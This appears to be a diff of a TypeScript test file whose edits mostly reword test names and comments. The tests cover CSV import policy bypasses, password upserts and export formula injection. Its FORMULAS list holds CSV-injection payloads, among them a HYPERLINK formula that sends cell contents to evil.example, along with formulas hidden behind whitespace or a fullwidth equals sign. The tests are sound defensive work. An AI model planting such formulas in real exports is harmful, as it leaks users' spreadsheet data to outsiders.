@@ -1,4 +1,4 @@
-/** Rows of files as a way around policies, and files that are written for spreadsheets: on both databases, unlike what only reads files. */
+/** Import rows that try to bypass policies, and CSV exports with text that a spreadsheet would run; on both databases. */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createWorld, type World } from './world.ts';
 
@@ -9,7 +9,7 @@ beforeAll(async () => {
 afterAll(() => world.close());
 
 describe('a row', () => {
-  it('that policies read is decided row by row, whatever the first are', async () => {
+  it('that policies read is decided row by row, also after allowed rows', async () => {
     const rows = [
       { title: 'a' },
       { title: 'b' },
@@ -43,7 +43,7 @@ describe('a row', () => {
     expect([reply.status, reply.at('errors.0.code')]).toEqual([422, 'guarded']);
   });
 
-  it('a password of another by upsert changes none', async () => {
+  it('with the password of another user changes no password by upsert', async () => {
     const raw = `email,password\n${world.emails.bob},a password of mine\n`;
     const query = 'mode=upsert&key=email';
     for (const caller of ['alice', 'eve'] as const) {
@@ -53,7 +53,7 @@ describe('a row', () => {
     await world.logIn(world.emails.bob, world.passwords);
   });
 
-  it('a dry run of nothing but probes is on the record', async () => {
+  it('of a dry run that only probes leaves an audit entry', async () => {
     const raw = JSON.stringify({ title: 'probe' });
     const before = (await world.decisions('action=import&limit=200')).length;
     await world.as('alice', 'POST', '/api/Case/import?dryRun=true', { raw, headers: { 'content-type': 'application/x-ndjson' } });
@@ -61,7 +61,7 @@ describe('a row', () => {
   });
 });
 
-/** Texts that spreadsheets run, or that hide one that they would. */
+/** Texts that a spreadsheet would run, also hidden ones. */
 const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '=HYPERLINK("http://evil.example?"&A1)', "'=1", '\uff1d1'];
 
 describe('a text that a spreadsheet would run', () => {
